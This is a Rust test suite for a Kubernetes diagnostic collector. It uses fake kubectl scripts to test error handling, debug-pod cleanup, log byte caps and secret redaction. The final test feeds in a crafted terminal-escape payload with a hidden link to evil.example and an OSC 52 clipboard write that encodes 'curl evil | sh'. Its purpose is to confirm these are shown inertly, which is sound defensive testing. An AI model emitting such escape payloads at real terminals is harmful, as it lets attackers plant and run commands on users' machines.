//! The collector against scripted kubectl stand-ins: what the real one rarely does on
//! demand (garbage output, a forbidden list, a debug pod that never finishes, Ctrl-C).

#![cfg(unix)]

mod support;

use collector::{CollectError, Options};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};
use support::{json_of, only_file, read_bundle, script};

const CONFIG: &str = r#"{"current-context":"prod-westeu","clusters":[{"name":"prod","cluster":{"server":"https://prod-x.hcp.westeurope.azmk8s.io:443"}}]}"#;
const VERSION: &str =
    r#"{"clientVersion":{"gitVersion":"v1.32.4"},"serverVersion":{"gitVersion":"v1.29.4"}}"#;
const EMPTY: &str =
    r#"{"apiVersion":"v1","items":[],"kind":"List","metadata":{"resourceVersion":""}}"#;
const NODES: &str = r#"{"apiVersion":"v1","items":[{"apiVersion":"v1","kind":"Node","metadata":{"name":"aks-np-0","labels":{"kubernetes.io/os":"linux"}},"status":{"conditions":[{"type":"Ready","status":"True"}]}},{"apiVersion":"v1","kind":"Node","metadata":{"name":"akswin000000","labels":{"kubernetes.io/os":"windows"}},"status":{"conditions":[{"type":"Ready","status":"True"}]}}],"kind":"List","metadata":{"resourceVersion":""}}"#;
const DEBUG_POD: &str = "node-debugger-aks-np-0-x7k2p";
/// What `kubectl get configmap <name> -o json` prints: one object, not a List.
const CONFIG_MAP: &str = r#"{"apiVersion":"v1","data":{"Corefile":".:53 { errors }"},"kind":"ConfigMap","metadata":{"name":"coredns","namespace":"kube-system"}}"#;

/// A kubectl stand-in that logs every call to `calls` and answers by pattern; `extra` cases
/// come first and override the defaults.
fn fake_kubectl(dir: &Path, extra: &str) -> (PathBuf, PathBuf) {
    let calls = dir.join("calls");
    // `kubectl api-resources -o name`: every kind the collector asks for is served.
    let served: Vec<&str> = ["nodes", "configmaps", collector::plan::NNC_RESOURCE]
        .into_iter()
        .chain(collector::plan::NAMESPACED.iter().map(|k| k.resource))
        .chain(collector::plan::CLUSTER.iter().map(|k| k.resource))
        .collect();
    let served = served.join(" ");
    let body = format!(
        r#"echo "$*" >> '{calls}'
case "$*" in
{extra}
  *"config view"*) echo '{CONFIG}' ;;
  *"version -o json"*) echo '{VERSION}' ;;
  *"api-resources -o name"*) printf '%s\n' {served} ;;
  *"get nodes"*) echo '{NODES}' ;;
  *" debug node/"*) echo "Creating debugging pod {DEBUG_POD} with container debugger on node aks-np-0." ;;
  *"get pod {DEBUG_POD}"*) printf Succeeded ;;
  *"logs {DEBUG_POD}"*) printf '/host/var/lib/cni/networks/kubenet 244\naksbundle-ipam-done\n' ;;
  *"delete pod"*) echo "pod \"{DEBUG_POD}\" deleted" ;;
  *" get configmap "*) echo '{CONFIG_MAP}' ;;
  *" get "*) echo '{EMPTY}' ;;
  *) echo "unexpected call: $*" >&2; exit 1 ;;
esac"#,
        calls = calls.display()
    );
    (script(&dir.join("kubectl"), &body), calls)
}

fn options(kubectl: PathBuf, out: &Path) -> Options {
    Options {
        kubectl,
        output: Some(out.to_path_buf()),
        progress: false,
        request_timeout: Duration::from_secs(10),
        probe_timeout: Duration::from_secs(5),
        ..Options::default()
    }
}

fn calls(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_default()
}

#[test]
fn node_ipam_counts_through_a_debug_pod_that_is_deleted_afterwards() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    std::fs::create_dir(&out).unwrap();
    // A forbidden cluster-wide list is recorded with kubectl's own words, and collection
    // goes on.
    let (kubectl, calls_file) = fake_kubectl(
        dir.path(),
        r#"  *"get events --all-namespaces"*) echo 'Error from server (Forbidden): events is forbidden: User "alice@contoso.com" cannot list resource "events" in API group "" at the cluster scope' >&2; exit 1 ;;"#,
    );
    let opts = Options {
        node_ipam: true,
        ..options(kubectl, &out)
    };
    let summary = collector::collect(&opts).unwrap();
    assert_eq!(summary.ipam_nodes, 1);
    assert_eq!(summary.errors.len(), 1, "{:#?}", summary.errors);
    let error = &summary.errors[0];
    assert_eq!(error.step, "events");
    assert_eq!(error.command, "kubectl get events --all-namespaces -o json");
    assert_eq!(error.exit_code, 1);
    assert!(error.stderr.starts_with("Error from server (Forbidden)"));

    let bundle = only_file(&out);
    assert!(bundle
        .file_name()
        .unwrap()
        .to_string_lossy()
        .starts_with("aksbundle-prod-westeu-"));
    let entries = read_bundle(&bundle);
    let ipam = json_of(&entries, "nodes/aks-np-0/ipam.json");
    assert_eq!(ipam["node"], "aks-np-0");
    assert_eq!(ipam["stores"][0]["path"], "/var/lib/cni/networks/kubenet");
    assert_eq!(ipam["stores"][0]["ip_files"], 244);
    let manifest = json_of(&entries, "manifest.json");
    assert_eq!(manifest["options"]["node_ipam"], true);
    assert_eq!(manifest["errors"][0]["step"], "events");

    // Events were then listed in the context's namespace (default) instead, with a note.
    assert!(
        summary
            .notes
            .iter()
            .any(|n| n.contains("forbidden") && n.contains("default")),
        "{:?}",
        summary.notes
    );
    assert!(calls(&calls_file).contains("get events --namespace default -o json"));
    json_of(
        &read_bundle(&only_file(&out)),
        "namespaces/default/events.json",
    );
    // The Windows node gets no debug pod, and a note says why.
    assert!(
        summary
            .notes
            .iter()
            .any(|n| n.contains("akswin000000") && n.contains("Windows")),
        "{:?}",
        summary.notes
    );
    let log = calls(&calls_file);
    assert!(!log.contains("node/akswin000000"), "{log}");
    let debug = log
        .lines()
        .find(|l| l.contains("debug node/aks-np-0"))
        .unwrap();
    assert!(
        debug.contains("--image=mcr.microsoft.com/cbl-mariner/busybox:2.0"),
        "{debug}"
    );
    assert!(
        log.contains(&format!("delete pod {DEBUG_POD}")),
        "debug pod not deleted:\n{log}"
    );
    assert!(
        log.lines().all(|l| l.contains("--request-timeout=")),
        "{log}"
    );
    assert!(!log.contains("secret"), "{log}");
}

#[test]
fn kubectl_printing_garbage_becomes_manifest_errors() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    std::fs::create_dir(&out).unwrap();
    let (kubectl, _) = fake_kubectl(
        dir.path(),
        r#"  *"get nodes"*) echo '{"kind":"Status","status":"Failure"}' ;;
  *" get "*) echo '<html><body>502 Bad Gateway</body></html>' ;;"#,
    );
    let summary = collector::collect(&options(kubectl, &out)).unwrap();
    // nodes, nnc, every namespaced and cluster-scoped list, and the three ConfigMaps.
    let steps = 2
        + collector::plan::NAMESPACED.len()
        + collector::plan::CLUSTER.len()
        + collector::plan::CONFIG_MAPS.len();
    assert_eq!(steps, 38);
    assert_eq!(summary.errors.len(), steps, "{:#?}", summary.errors);
    for error in &summary.errors {
        assert_eq!(error.exit_code, 0);
        assert!(
            error.stderr.contains("not valid JSON") || error.stderr.contains("not a List"),
            "{}",
            error.stderr
        );
    }
    let entries = read_bundle(&only_file(&out));
    assert!(entries.iter().any(|(n, _)| n.ends_with("/manifest.json")));
    assert!(entries
        .iter()
        .any(|(n, _)| n.ends_with("/cluster/version.json")));
}

#[test]
fn ctrl_c_deletes_debug_pods_and_leaves_no_bundle() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    std::fs::create_dir(&out).unwrap();
    // The debug pod never finishes: the collection is stuck until Ctrl-C.
    let (kubectl, calls_file) = fake_kubectl(
        dir.path(),
        &format!(r#"  *"get pod {DEBUG_POD}"*) sleep 30 ;;"#),
    );
    let opts = Options {
        node_ipam: true,
        ..options(kubectl, &out)
    };
    let cancel = opts.cancel.clone();
    let watcher = std::thread::spawn(move || {
        let deadline = Instant::now() + Duration::from_secs(20);
        while !calls(&calls_file).contains(&format!("get pod {DEBUG_POD}")) {
            assert!(Instant::now() < deadline, "the debug pod was never polled");
            std::thread::sleep(Duration::from_millis(20));
        }
        cancel.cancel();
        calls_file
    });
    let started = Instant::now();
    let result = collector::collect(&opts);
    let calls_file = watcher.join().unwrap();
    assert!(
        matches!(result, Err(CollectError::Interrupted)),
        "{result:?}"
    );
    assert!(
        started.elapsed() < Duration::from_secs(15),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(
        std::fs::read_dir(&out).unwrap().count(),
        0,
        "a bundle or temporary file was left behind"
    );
    let log = calls(&calls_file);
    assert!(
        log.contains(&format!("delete pod {DEBUG_POD}")),
        "debug pod not deleted:\n{log}"
    );
}

#[test]
fn a_device_code_sign_in_stops_quickly_with_a_note() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    std::fs::create_dir(&out).unwrap();
    let (kubectl, calls_file) = fake_kubectl(
        dir.path(),
        r#"  *"version -o json"*) echo 'To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code F7GH2JK9L to authenticate.' >&2; sleep 30 ;;"#,
    );
    let opts = Options {
        probe_timeout: Duration::from_secs(1),
        ..options(kubectl, &out)
    };
    let started = Instant::now();
    let summary = collector::collect(&opts).unwrap();
    assert!(
        started.elapsed() < Duration::from_secs(15),
        "{:?}",
        started.elapsed()
    );
    assert!(!summary.reachable);
    assert!(
        summary.notes.iter().any(|n| n.contains("sign-in")),
        "{:?}",
        summary.notes
    );
    assert_eq!(summary.errors.len(), 1);
    assert_eq!(summary.errors[0].exit_code, 124);
    assert!(summary.errors[0].stderr.contains("devicelogin"));
    assert!(
        !summary.errors[0].stderr.contains("F7GH2JK9L"),
        "the device code was kept"
    );
    assert!(
        !calls(&calls_file).contains(" get "),
        "nothing after the probe"
    );
}

/// A pods list with one not-Ready pod, whose log the collector therefore fetches.
const CHATTY_POD: &str = r#"{"apiVersion":"v1","items":[{"apiVersion":"v1","kind":"Pod","metadata":{"name":"chatty-0","namespace":"default"},"status":{"phase":"Running","conditions":[{"type":"Ready","status":"False"}],"containerStatuses":[{"name":"app","restartCount":0,"state":{"running":{"startedAt":"2026-11-22T03:00:00Z"}}}]}}],"kind":"List","metadata":{"resourceVersion":""}}"#;

#[test]
fn regression_endless_pod_log_is_cut_at_the_byte_cap() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    std::fs::create_dir(&out).unwrap();
    // A kubectl (or API server) that ignores --limit-bytes and never stops.
    let (kubectl, _) = fake_kubectl(
        dir.path(),
        &format!(
            r#"  *"get pods"*) echo '{CHATTY_POD}' ;;
  *"logs "*) yes '2026-11-22T04:00:00.000000000Z GET /api/v1/orders token=ghp_HAZt9xslXTTIQrh6bpy0VAq3GZuO2R8UziJd 200' ;;"#
        ),
    );
    let cap: u64 = 256 * 1024;
    let opts = Options {
        max_log_bytes: cap,
        ..options(kubectl, &out)
    };
    let started = Instant::now();
    let summary = collector::collect(&opts).unwrap();
    assert!(started.elapsed() < Duration::from_secs(30));
    assert!(summary.errors.is_empty(), "{:#?}", summary.errors);
    assert!(
        summary
            .notes
            .iter()
            .any(|n| n.contains("logs/default/chatty-0/app.log")
                && n.contains("more than 1048576 bytes; kubectl was stopped there")),
        "{:?}",
        summary.notes
    );
    let entries = read_bundle(&only_file(&out));
    let (_, log) = entries
        .iter()
        .find(|(name, _)| name.ends_with("/logs/default/chatty-0/app.log"))
        .expect("the log up to the cap is kept");
    // What was read, redacted, up to its last complete line: never more than the cap.
    assert!(!log.is_empty() && log.len() as u64 <= cap, "{}", log.len());
    assert!(log.ends_with(b"200\n"));
    let text = String::from_utf8_lossy(log);
    assert!(!text.contains("ghp_HAZt9x"));
    assert!(text
        .lines()
        .all(|l| l == "2026-11-22T04:00:00.000000000Z GET /api/v1/orders token=[REDACTED] 200"));
    assert!(summary.redactions as usize >= text.lines().count());
}

#[test]
fn regression_terminal_escapes_from_kubectl_are_shown_visibly_in_the_summary() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    std::fs::create_dir(&out).unwrap();
    // OSC 0 title, CSI clear, OSC 8 hidden link, OSC 52 clipboard write, 8-bit CSI (as
    // U+009B and as a raw byte), all in a server's error message.
    let (kubectl, _) = fake_kubectl(
        dir.path(),
        r#"  *"get events --all-namespaces"*) printf 'Error from server (Forbidden): \033]0;pwned\007\033[2J\033[H\033]8;;https://evil.example/\033\\click\033]8;;\033\\ \033]52;c;Y3VybCBldmlsIHwgc2g=\007 \302\2332J \2332J\n' >&2; exit 1 ;;"#,
    );
    let summary = collector::collect(&options(kubectl, &out)).unwrap();
    assert_eq!(summary.errors.len(), 1, "{:#?}", summary.errors);
    let shown = &summary.errors[0].stderr;
    assert!(
        !shown
            .chars()
            .any(|c| c.is_control() && c != '\t' && c != '\n'),
        "{shown:?}"
    );
    for visible in [
        "\\x1b]0;pwned\\x07",
        "\\x1b[2J",
        "\\x1b]8;;https://evil.example/",
        "\\x1b]52;c;",
        "\\u{9b}2J",
    ] {
        assert!(shown.contains(visible), "{visible} not shown in {shown:?}");
    }
    // The bundle keeps kubectl's words as they were (JSON escapes them).
    let manifest = json_of(&read_bundle(&only_file(&out)), "manifest.json");
    assert!(manifest["errors"][0]["stderr"]
        .as_str()
        .unwrap()
        .contains("\u{1b}]0;pwned"));
}
